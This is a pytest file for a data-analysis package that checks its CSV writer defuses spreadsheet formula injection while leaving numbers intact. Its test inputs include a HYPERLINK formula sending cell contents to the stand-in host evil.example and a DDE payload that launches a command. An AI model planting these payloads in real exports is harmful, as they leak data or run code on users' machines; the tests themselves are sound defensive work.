"""CSV formula injection: text cells starting with = + - @ tab or CR that a spreadsheet could run get a
leading "'" in every CSV we write; numbers (also negative ones) and the lone "-" placeholder of an empty
figure stay as they are."""

from __future__ import annotations

import csv
import json

import pandas as pd
import pytest

from mmanalysis import read_run, synth
from mmanalysis.csvsafe import neutralise, safe_frame, write_frame
from mmanalysis.reader import read_runs
from mmanalysis.report import headline, report

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "=", "-1e5x", "--", "- 1",
                                  "-A1", "-cmd|' /C calc'!A0", "+-", "-\t", "\t", "\r", "@"])
def test_formula_text_is_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+3.5", "-1e-05", "-.5", "-inf", "3", "", "mixed", "a=b", "'=x",
                                   "-", "+", "-7", "-0", "+1E+3", -3.5, 7, None, True])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise(value) == value


def test_placeholder_dash_reads_back_as_a_dash(tmp_path):
    df = pd.DataFrame({"profiler": ["-", "avr"], "runs": ["-", "=x"], "mean (us)": ["-", -1.5]})
    write_frame(df, tmp_path / "t.csv", index=False)
    back = pd.read_csv(tmp_path / "t.csv")
    assert list(back["profiler"]) == ["-", "avr"] and list(back["runs"]) == ["-", "'=x"]
    assert list(back["mean (us)"].astype(str)) == ["-", "-1.5"]


def test_report_of_runs_without_an_experiment_says_no_profiler_not_a_quoted_dash(tmp_path):
    runs = tmp_path / "runs"
    synth.write_experiment(runs, "mixed-2ahead", count=30, seed=2)
    paths = report(runs, tmp_path / "out", figures=False)
    comp = pd.read_csv(paths["comparison"])
    assert "'-" not in set(comp["profiler"].astype(str)) and "-" in set(comp["profiler"].astype(str))
    assert not any("'-" in line for line in headline(read_runs(runs), comp))


def test_safe_frame_touches_text_columns_only():
    df = pd.DataFrame({"run": [EVIL, "plain"], "mean_us": [-3.5, 2.0], "n": [-1, 2],
                       "cat": pd.Categorical(["@x", "y"])})
    out = safe_frame(df)
    assert list(out["run"]) == ["'" + EVIL, "plain"]
    assert list(out["cat"]) == ["'@x", "y"]
    assert list(out["mean_us"]) == [-3.5, 2.0] and list(out["n"]) == [-1, 2]
    assert list(df["run"]) == [EVIL, "plain"]  # the caller's frame is not changed


def test_run_named_like_a_formula_through_report(tmp_path):
    runs = tmp_path / "runs"
    csv_path, _ = synth.write_experiment(runs, "mixed-2ahead", count=50, seed=1)
    js = csv_path.with_suffix(".json")
    meta = json.loads(js.read_text())
    meta["name"] = EVIL
    js.write_text(json.dumps(meta))

    paths = report(runs, tmp_path / "out", figures=False)
    with open(paths["summary"], newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["run"] == "'" + EVIL
    with open(paths["comparison"], newline="") as f:
        comp = list(csv.DictReader(f))
    assert any(r["runs"] == "'" + EVIL for r in comp)
    for r in rows + comp:  # no cell of either file is a live formula
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values() if v)
    # the numbers stay numbers
    summary = pd.read_csv(paths["summary"])
    assert pd.api.types.is_float_dtype(summary["mean_us"]) and summary["mean_us"].iloc[0] > 0
    assert pd.api.types.is_integer_dtype(summary["n"]) and summary["n"].iloc[0] > 0


def test_run_csv_with_negative_numbers_reads_back_the_same(tmp_path):
    export = pytest.importorskip("mmsched.verdict.export")
    from mmsched.model.event import Event
    evs = []
    for i in range(3):
        e = Event(event=i, tag=i, event_id=i, mode="normal", distance=1, scheduled_tc=10 + i, created_tc=9 + i,
                  created_phase=-0.125, ack_phase=-3.5, slack_ticks=-1e-05, fired_tc=10 + i, result_tc=10 + i,
                  result_counts=5, latency_counts=5, latency_us=31.25, est_error_us=-2.5, wakeup_us=3.0,
                  line_us=30.75, floor_us=0.0)
        e.finish("ok", None)
        evs.append(e)
    side = synth.sidecar("neg", synth.synthetic_events("normal", 1, False, 3, 0))
    side["format_version"] = 3
    c, _ = export.write_run(tmp_path / "neg", evs, side)
    text = c.read_text()
    assert "'" not in text and ",-3.5," in text
    df = read_run(c).df
    assert list(df["ack_phase"]) == [-3.5] * 3 and list(df["slack_ticks"]) == [-1e-05] * 3
    assert list(df["est_error_us"]) == [-2.5] * 3 and list(df["created_phase"]) == [-0.125] * 3
    assert list(df["mode"]) == ["normal"] * 3 and list(df["outcome"]) == ["ok"] * 3
